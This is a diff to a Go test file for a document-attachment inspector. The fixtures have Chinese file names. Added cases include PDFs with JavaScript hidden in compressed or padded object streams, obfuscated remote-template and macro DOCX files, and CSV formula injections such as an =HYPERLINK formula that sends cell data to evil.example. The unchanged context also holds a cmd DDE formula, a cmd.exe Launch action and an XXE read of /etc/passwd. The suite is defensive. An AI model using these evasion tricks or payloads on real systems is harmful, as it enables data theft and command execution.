@@ -34,11 +34,16 @@ func pdf(objects ...string) []byte {
 }
 
 func objectStream(dictionary, objects string) string {
+	packed := deflated(objects)
+	return "<< " + dictionary + " /Filter /FlateDecode /Length " + fmt.Sprint(len(packed)) + " >>\nstream\r\n" + packed + "\nendstream"
+}
+
+func deflated(text string) string {
 	var b bytes.Buffer
 	z := zlib.NewWriter(&b)
-	_, _ = z.Write([]byte(objects))
+	_, _ = z.Write([]byte(text))
 	_ = z.Close()
-	return "<< " + dictionary + " /Filter /FlateDecode /Length " + fmt.Sprint(b.Len()) + " >>\nstream\r\n" + b.String() + "\nendstream"
+	return b.String()
 }
 
 // packed is a ZIP of parts, name and content in turn.
@@ -165,13 +170,15 @@ func files(t testing.TB) []file {
 		{"整改报告.pdf", pdf(), "application/pdf", ""},
 		{"大写.PDF", pdf(), "application/pdf", ""},
 		{"压缩对象.pdf", pdf(objectStream("/Type /ObjStm /N 1 /First 4", "4 0 << /Type /Annot >>")), "application/pdf", ""},
-		{"内容流不看.pdf", pdf(objectStream("/Type /XObject", "(/JavaScript)")), "application/pdf", ""},
+		{"内容流.pdf", pdf(objectStream("/Type /XObject", "q 1 0 0 1 0 0 cm (/Launcher) Tj Q"), objectStream("/Type /XRef /DecodeParms << /Predictor 12 >>", "\x02\x01\x00")), "application/pdf", ""},
+		{"长流.pdf", pdf(objectStream("/Type /XObject", strings.Repeat("/Launcher ", 200_000))), "application/pdf", ""},
 		{"文件.ofd", ofd(), "application/ofd", ""},
 		{"说明.docx", word("word/media/chart.svg", "<svg/>"), docx, ""},
 		{"图表.docx", word("word/embeddings/Sheet1.xlsx", string(excel())), docx, ""},
 		{"链接.docx", word("word/_rels/document.xml.rels", `<Relationships><Relationship Type="http://x/hyperlink" Target="https://x" TargetMode="External"/></Relationships>`), docx, ""},
 		{"汇总.xlsx", realExcel(t), xlsx, ""},
 		{"汇总.csv", []byte("\xef\xbb\xbf项目,得分\n甲,-5\n"), "text/csv", ""},
+		{"各种数.csv", []byte("-1,+2,-3.5%,\"-1,234.50\",-1e-3,-.5,-,--,\t-5\n"), "text/csv", ""},
 		{"国标.csv", gb("项目,得分\n甲,95\n"), "text/csv", ""},
 		{"说明.txt", []byte("已更正。\r\n"), "text/plain", ""},
 		{"数据.xml", gb(`<?xml version="1.0" encoding="GBK"?><表>满意度</表>`), "application/xml", ""},
@@ -223,6 +230,11 @@ func files(t testing.TB) []file {
 		{"藏脚本.pdf", pdf("<< /S /Java#53cript /JS (x) >>"), active, "JavaScript"},
 		{"压缩脚本.pdf", pdf(objectStream("/Type /ObjStm /N 1 /First 4", "4 0 << /S /J#61vaScript >>")), active, "JavaScript"},
 		{"不说类型.pdf", pdf(objectStream("/N 1 /First 4", "4 0 << /S /JavaScript >>")), active, "JavaScript"},
+		{"字符串里的词.pdf", pdf(objectStream("/Type /ObjStm /N 1 /First 4 /Pad (obj)", "4 0 << /S /JavaScript >>")), active, "JavaScript"},
+		{"名称里的词.pdf", pdf(objectStream("/Type /ObjStm /N 1 /First 4 /obj true", "4 0 << /S /JavaScript >>")), active, "JavaScript"},
+		{"长填充.pdf", pdf(objectStream("/Type /ObjStm /N 1 /First 4 /Pad ("+strings.Repeat(" ", 9000)+")", "4 0 << /S /JavaScript >>")), active, "JavaScript"},
+		{"别的流里.pdf", pdf(objectStream("/Type /XObject", strings.Repeat("\x01", 65_530)+"<< /S /JavaScript >>")), active, "JavaScript"},
+		{"压两层.pdf", pdf(objectStream("/Type /ObjStm /N 1 /First 4", deflated("4 0 << /S /JavaScript >>"))), active, "JavaScript"},
 		{"启动.pdf", pdf("<</S/Launch/F(cmd.exe)>>"), active, "启动"},
 		{"内嵌.pdf", pdf("<</Names<</EmbeddedFiles 9 0 R>>>>"), active, "内嵌"},
 		{"表单.pdf", pdf("<</AcroForm<</XFA 9 0 R>>>>"), active, "XFA"},
@@ -233,8 +245,16 @@ func files(t testing.TB) []file {
 		{"对象.docx", word("word/embeddings/oleObject1.bin", "x"), active, "OLE"},
 		{"藏程序.ofd", ofd("Doc_0/Res/a.EXE", "MZ"), active, "程序"},
 		{"远程模板.docx", word("word/_rels/settings.xml.rels", `<Relationship Type="http://x/attachedTemplate" Target="https://x/a.dotm" TargetMode="External"/>`), active, "别处"},
+		{"实体模板.docx", word("word/_rels/settings.xml.rels", `<r:Relationships xmlns:r="y"><r:Relationship Type="http://x/attached&#84;emplate" Target="https://x/a.dotm" TargetMode = 'Ext&#101;rnal'/></r:Relationships>`), active, "别处"},
+		{"实体宏.docx", packed("[Content_Types].xml", `<Types><Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vba&#80;roject"/></Types>`, "word/document.xml", "<w/>", "word/x.bin", "x"), active, "宏"},
 		{"内嵌宏.docx", word("word/embeddings/a.xlsx", string(excel("xl/vbaProject.bin", "x"))), active, "宏"},
 		{"公式.csv", []byte("甲,=cmd|' /C calc'!A0\n"), active, "第 1 行"},
+		{"外送.csv", []byte("名称,数\r\n甲,5\r\n\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",1\r\n"), active, "第 3 行有以“=”开头"},
+		{"加号.csv", []byte("+A1,1\n"), active, "“+”"},
+		{"减号.csv", []byte("甲;-A1\n"), active, "“-”"},
+		{"函数.csv", []byte("甲\t@SUM(A1)\n"), active, "“@”"},
+		{"制表符.csv", []byte("甲,\"\t =A1\"\n"), active, "“=”"},
+		{"全角.csv", []byte("甲,＝A1\n"), active, "“＝”"},
 		{"外部.xml", []byte(`<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`), active, "DOCTYPE"},
 		{"样式.xml", []byte(`<?xml-stylesheet href="x"?><a/>`), active, "样式表"},
 		{"页面.xml", []byte(`<a><b xmlns="http://www.w3.org/1999/xhtml"/></a>`), active, "网页"},
@@ -242,6 +262,12 @@ func files(t testing.TB) []file {
 		{"锁.pdf", pdf("<</Encrypt 9 0 R>>"), locked, "密码"},
 		{"锁一半.docx", encryptedZip(), locked, "密码"},
 		{"看不透.pdf", pdf("<< /Type /ObjStm /N 1 /First 4 /Filter /LZWDecode >>\nstream\nxxxx\nendstream"), "attachment.opaque", "PDF/A"},
+		{"别的压法.pdf", pdf("<< /N 1 (stream) /First 4 /Filter [/ASCII85Decode /FlateDecode] >>\nstream\nxxxx\nendstream"), "attachment.opaque", "PDF/A"},
+		{"预测.pdf", pdf(objectStream("/Type /ObjStm /N 1 /First 4 /DecodeParms << /Predictor 12 >>", "x")), "attachment.opaque", "对象流"},
+		{"层层压.pdf", pdf(objectStream("", deflated(deflated(deflated(deflated("x")))))), "attachment.opaque", "反复压缩"},
+		{"碎流.pdf", pdf(strings.Repeat("stream\nx\x9c\xff\xff\n", 300)), "attachment.opaque", "许多"},
+		{"坏关系.docx", word("word/_rels/settings.xml.rels", `<Relationships><Relationship`), bad, "settings.xml.rels"},
+		{"关系有类型声明.docx", word("word/_rels/settings.xml.rels", `<!DOCTYPE a [<!ENTITY e "External">]><Relationships/>`), bad, "settings.xml.rels"},
 		{"炸弹.docx", bomb(), growing, "256 MiB"},
 		{"套娃.xlsx", nested(4), growing, "MiB"},
 		{"大图.png", hugePNG(), growing, "像素"},
@@ -281,7 +307,7 @@ func TestEveryRefusalIsTested(t *testing.T) {
 	for _, f := range files(t) {
 		asked[f.want] = true
 	}
-	for _, source := range []string{"inspect.go", "foreign.go", "pdf.go", "package.go", "image.go", "text.go"} {
+	for _, source := range []string{"inspect.go", "foreign.go", "pdf.go", "pdf_streams.go", "package.go", "image.go", "text.go"} {
 		for _, m := range regexp.MustCompile(`refuse\("(attachment\.[a-z-]+)"`).FindAllStringSubmatch(read(t, source), -1) {
 			if !asked[m[1]] {
 				t.Errorf("%s: no file is refused with %s", source, m[1])
